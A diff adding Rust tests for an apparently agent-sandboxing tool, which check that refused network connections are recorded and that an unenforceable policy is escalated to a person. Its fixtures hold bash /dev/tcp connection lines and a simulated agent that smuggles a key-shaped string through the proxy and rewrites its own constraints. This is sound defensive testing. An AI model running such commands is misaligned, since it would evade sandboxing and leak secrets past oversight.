@@ -152,6 +152,7 @@ fn a_policy_that_can_not_be_held_is_refused_and_a_waiver_lets_it_run() {
         return;
     }
     // No check ran, so nothing passed, whatever the agents say.
+    let key = world.approver("ann");
     world.start(HONEST, &[]);
     let said = run_without_namespaces(&world).exits(2);
     let refusal = "this machine cannot enforce the sandbox policy: ";
@@ -170,6 +171,41 @@ fn a_policy_that_can_not_be_held_is_refused_and_a_waiver_lets_it_run() {
         !commands.is_empty() && commands.iter().all(refused),
         "{commands:#?}"
     );
+    assert!(
+        commands
+            .iter()
+            .all(|one| one["code"] == "sandbox_unavailable")
+    );
+    // No agent can mend that: a person is asked, and nobody was sent to repair.
+    let attempts = |world: &World| {
+        let journal = world.journal().into_iter();
+        journal
+            .filter(|record| record["kind"] == "attempt_ended.v1")
+            .count()
+    };
+    let (status, before) = (world.status(), attempts(&world));
+    assert_eq!(status["waiting_for"]["reason"], "trouble", "{status}");
+    let why = status["waiting_for"]["why"].as_str().unwrap();
+    assert!(why.contains(refusal), "{why}");
+    let inbox = world.run(&["inbox"]).exits(0);
+    assert!(inbox.out.contains("retry"), "{}", inbox.out);
+    let state = status["state"].clone();
+    assert_ne!(state, "repair");
+    // On a machine that can hold it, the same work is judged: it is not made again.
+    world.decide(&key, "retry").exits(0);
+    world.run(&["run", "t"]).exits(0);
+    assert_eq!(world.status()["state"], "done");
+    let journal = world.journal().into_iter();
+    let began = journal.filter(|record| {
+        let body = &record["body"];
+        record["kind"] == "effect_began.v1" && body["kind"] == "attempt" && body["state"] == state
+    });
+    assert_eq!(
+        began.count(),
+        1,
+        "one attempt in `{state}`, {before} before"
+    );
+    world.run(&["audit", "--ci"]).exits(0);
     // The same run with a waiver by a person who signs it.
     let world = World::new();
     let key = world.approver("ann");
@@ -246,4 +282,110 @@ echo '{"summary": "framed"}' > "$PROOFHOUSE_RESULT"
         .find(|record| record["kind"] == "attempt_ended.v1")
         .unwrap();
     assert_eq!(ended["body"]["outcome"]["denied"][0], "evil.example:443");
+}
+
+/// Are connections that go past the proxy recorded here?
+fn witnesses(world: &World) -> bool {
+    let said = world.run(&["doctor"]);
+    let yes = said.out.contains("refused connections are recorded: yes");
+    if !yes {
+        eprintln!("skipped: this machine can not record refused connections");
+    }
+    yes
+}
+
+#[test]
+fn what_goes_past_the_proxy_is_in_the_journal_and_on_every_page() {
+    let world = World::new();
+    if !confines(&world) || !witnesses(&world) {
+        return;
+    }
+    let far =
+        "bash -c 'exec 3<>/dev/tcp/192.0.2.7/443'; bash -c 'exec 3<>/dev/tcp/192.0.2.7/443'; true";
+    let script = HONEST.replacen(
+        "{ write = \"repo/code.txt\"",
+        &format!("{{ run = \'\'\'{far}\'\'\' }}, {{ write = \"repo/code.txt\""),
+        1,
+    );
+    let check = "bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432' 2>/dev/null; true";
+    world.start(&script, &["--check", check]);
+    let said = world.run(&["run", "t"]).exits(0);
+    let journal = world.journal();
+    let of = |kind: &str| {
+        let kind = kind.to_owned();
+        journal
+            .iter()
+            .filter(move |record| record["kind"] == kind.as_str())
+    };
+    let attempts: Vec<_> = of("attempt_ended.v1")
+        .map(|record| &record["body"]["outcome"])
+        .filter(|outcome| !outcome["denied"].is_null())
+        .collect();
+    assert_eq!(attempts.len(), 1, "one attempt tried: {attempts:?}");
+    let wanted = serde_json::json!(["192.0.2.7:443 (2 times)"]);
+    assert_eq!(attempts[0]["denied"], wanted);
+    let checks: Vec<_> = of("gate_ended.v1")
+        .flat_map(|record| record["body"]["results"].as_array().unwrap())
+        .filter(|result| !result["ran"]["denied"].is_null())
+        .collect();
+    assert!(!checks.is_empty());
+    for result in checks {
+        assert_eq!(
+            result["verdict"], "pass",
+            "it is told, not judged: {result}"
+        );
+        assert_eq!(
+            result["ran"]["denied"],
+            serde_json::json!(["127.0.0.1:5432"])
+        );
+    }
+    let log = world.run(&["log", "t"]).exits(0).out;
+    let page = std::fs::read_to_string(world.at("tasks/t/artifacts/evidence.html")).unwrap();
+    for (place, text) in [("run", &said.out), ("log", &log), ("page", &page)] {
+        for target in ["192.0.2.7:443 (2 times)", "127.0.0.1:5432"] {
+            let line = format!("refused connections: {target}");
+            assert!(text.contains(&line), "{place} lacks `{line}`:\n{text}");
+        }
+    }
+    world.run(&["audit", "--ci"]).exits(0);
+}
+
+#[test]
+fn a_command_agents_target_is_named_and_a_key_in_it_is_not() {
+    let world = World::new();
+    if !confines(&world) || !witnesses(&world) {
+        return;
+    }
+    // A key's shape, made here: no such text stands in a file of ours.
+    let key = format!("sk-{}-{}", "ant", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6");
+    let tools = tempfile::tempdir().unwrap();
+    let program = tools.path().join("my-agent");
+    let script = format!(
+        r#"#!/bin/bash
+cd "$PROOFHOUSE_TASK_DIR" || exit 8
+sed -i 's/^Not doing:.*/Not doing: much/; s/^Reality constraints:.*/Reality constraints: few/' STATE.md
+(exec 3<>/dev/tcp/192.0.2.9/8443) 2>/dev/null
+(exec 3<>/dev/tcp/127.0.0.1/${{HTTP_PROXY##*:}} && printf 'CONNECT {key}.example:443 HTTP/1.1\r\n\r\n' >&3 && head -1 <&3)
+echo '{{"summary": "framed"}}' > "$PROOFHOUSE_RESULT"
+"#
+    );
+    std::fs::write(&program, script).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let agent = format!("command:{}", program.display());
+    let set = ["--set", "objective=o", "--set", "done_gate=d"];
+    let new = ["new", "phase", "--dir", "tasks/t", "--check", "true"];
+    world
+        .run(&[&new[..], &set, &["--agent", &agent]].concat())
+        .exits(0);
+    let said = world.run(&["run", "t", "--once"]).exits(0);
+    let journal = world.journal();
+    let ended = journal
+        .iter()
+        .find(|record| record["kind"] == "attempt_ended.v1")
+        .unwrap();
+    let denied = ended["body"]["outcome"]["denied"].as_array().unwrap();
+    assert_eq!(denied.len(), 2, "{denied:?}");
+    assert_eq!(denied[1], "192.0.2.9:8443");
+    assert!(!ended.to_string().contains(&key) && !said.out.contains(&key));
 }
